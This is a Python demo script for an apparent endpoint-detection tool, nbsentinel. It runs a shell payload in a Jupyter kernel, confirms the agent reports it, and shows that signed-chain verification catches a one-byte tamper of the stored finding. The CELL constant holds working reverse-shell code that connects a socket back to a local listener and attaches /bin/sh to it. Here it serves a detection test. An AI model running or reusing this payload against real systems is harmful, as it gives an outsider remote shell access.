"""What happens in the demonstration, step by step; a step that does not happen ends it with an error."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from nbsentinel.demo.operator import Operator
from nbsentinel.demo.stage import DemoError, Stage, load_lines, notebook_kernel, wait_for

CELL = """\
import os, socket
if os.fork() == 0:
    s = socket.create_connection(("127.0.0.1", {port}))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh"])
"""
FINDING_CLASS = 2004


def play(stage: Stage) -> Iterator[tuple[str, Any]]:
    """Yield (step, what to show) as each step has really happened.

    Raises:
        DemoError: A step did not happen.
    """
    yield "begin", "a collector with an empty database"
    stage.start_collector()
    yield "done", f"collector on {stage.url}"
    yield "begin", "an agent that enrols with a one-time token"
    status = stage.start_agent()
    chain = status["chain"]["uid"]
    wait_for("the agent is enrolled", lambda: chain in (stage.get("/v1/keys") or {}).get("chains", {}))
    yield "done", f"agent {status['agent_uid']} is enrolled and watches {status['counters']['processes']} processes"
    yield "status", status
    operator = Operator()
    try:
        yield from _attack(stage, operator)
    finally:
        operator.hang_up()
    yield from _prove(stage, chain)


def _attack(stage: Stage, operator: Operator) -> Iterator[tuple[str, Any]]:
    yield "begin", "a Jupyter kernel"
    with notebook_kernel(stage.folder) as run_cell:
        yield "done", "a real Python kernel runs demo.ipynb"
        code = CELL.format(port=operator.port)
        yield "cell", code
        began = time.monotonic()
        run_cell(code)
        found = wait_for("the agent reports the shell", lambda: _finding_in(stage.report), 15)
        took = time.monotonic() - began
        wait_for("the shell answers its operator", operator.answered.is_set, 10)
        yield "done", f"the shell answered its operator, and was reported {took * 1000:.0f} ms after the cell began"
        yield "finding", found


def _finding_in(report: Path) -> dict[str, Any] | None:
    if not report.exists():
        return None
    whole = report.read_bytes().rpartition(b"\n")[0]
    found = (event for event in load_lines(whole) if event["class_uid"] == FINDING_CLASS)
    # Something else may run on this machine, and be told of, too.
    return next((one for one in found if one["finding_info"]["analytic"]["name"].startswith("reverse_shell")), None)


def _prove(stage: Stage, chain: str) -> Iterator[tuple[str, Any]]:
    item = wait_for("the collector has the finding", lambda: _collected(stage), 15)
    if item.get("verified") is not True:
        raise DemoError("the collector did not verify the finding")
    yield "done", "the collector verified its signature and its place in the chain before storing it"
    _export(stage, chain)
    good = _verify(stage)
    if good.returncode != 0:
        raise DemoError(f"the untouched export does not verify: {good.stdout}{good.stderr}")
    yield "verify", good.stdout
    where = _tamper(stage.database)
    yield "tamper", where
    _export(stage, chain)
    bad = _verify(stage)
    if bad.returncode != 1:
        raise DemoError(f"the changed byte was not caught: exit {bad.returncode}\n{bad.stdout}{bad.stderr}")
    yield "verify", bad.stdout
    yield "done", "one changed byte in the collector's database was caught"


def _collected(stage: Stage) -> dict[str, Any] | None:
    answer = stage.get("/v1/findings") or {}
    for item in answer.get("findings", ()):
        if item["event"]["finding_info"]["analytic"]["name"].startswith("reverse_shell"):
            assert isinstance(item, dict)
            return item
    return None


def _export(stage: Stage, chain: str) -> None:
    """Write what the collector stores of a chain, its trusted key and its head: what an auditor would take away."""
    # Heads first: an event that arrives in between makes the export longer than the head, which is no loss.
    (stage.folder / "heads.json").write_text(json.dumps(stage.get("/v1/heads")))
    events = stage.get("/v1/events", chain_uid=chain, limit=10_000)
    (stage.folder / "export.ndjson").write_bytes(events or b"")
    (stage.folder / "keys.json").write_text(json.dumps(stage.get("/v1/keys")))


def _verify(stage: Stage) -> subprocess.CompletedProcess[str]:
    command = stage.nbsentinel("verify", "export.ndjson", "--keys", "keys.json", "--heads", "heads.json")
    width = str(shutil.get_terminal_size((100, 24)).columns)
    environment = {**os.environ, "COLUMNS": width, "TERM": "dumb"}
    return subprocess.run(command, cwd=stage.folder, capture_output=True, text=True, check=False, env=environment)


def _tamper(database: Path) -> str:
    """Change one byte of the finding in the collector's database, as somebody with access to it could."""
    connection = sqlite3.connect(database)
    try:
        row = connection.execute(
            "SELECT rowid, line FROM events WHERE class_uid = ? ORDER BY rowid LIMIT 1", (FINDING_CLASS,)
        ).fetchone()
        line = bytes(row[1])
        at = line.index(b'"pid":') + len(b'"pid":')
        digit = b"1" if line[at : at + 1] != b"1" else b"2"
        changed = line[:at] + digit + line[at + 1 :]
        connection.execute("UPDATE events SET line = ? WHERE rowid = ?", (changed, row[0]))
        connection.commit()
    finally:
        connection.close()
    return f"byte {at} of the stored finding: {line[at : at + 1].decode()!r} became {digit.decode()!r}"
